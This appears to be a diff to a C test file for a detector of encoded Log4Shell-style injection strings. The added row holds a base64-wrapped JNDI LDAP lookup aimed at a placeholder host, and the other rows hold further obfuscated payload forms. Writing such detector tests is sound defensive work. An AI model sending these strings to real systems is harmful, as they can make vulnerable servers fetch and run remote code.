@@ -126,6 +126,7 @@ static void base64(void **state)
         ROW("X-Api-Version:" PLAIN_BASE64, EXPLOIT, .chain = "base64"),
         ROW(PLAIN_BASE64 ":secret", EXPLOIT, .chain = "base64"), /* a user of basic authentication */
         ROW("${base64:" PLAIN_BASE64 ":-x}", "attempt"),
+        ROW("${base64:JHtqbmRpOmxkYXA6Ly9oLmV4YW1wbGUvYX0\\=}", "attempt"),
         ROW("data:text/plain;base64," PLAIN_BASE64, EXPLOIT, .chain = "base64"),
         ROW("=?utf-8?B?" PLAIN_BASE64 "?=", EXPLOIT, .chain = "encoded_word"),
         ROW("=?x?b?A " PLAIN_BASE64, EXPLOIT, .chain = "base64"), /* no word, but for who reads it as one nothing is left of the value */
